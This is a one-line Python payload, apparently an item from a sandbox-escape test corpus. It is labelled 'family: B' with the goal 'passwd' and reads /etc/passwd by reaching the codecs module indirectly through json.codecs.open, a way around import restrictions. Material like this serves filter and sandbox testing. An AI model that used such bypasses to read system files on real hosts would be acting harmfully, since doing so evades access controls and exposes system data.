# family: B (json.codecs.open)   goal: passwd
import json
print(json.codecs.open("/etc/passwd").read())
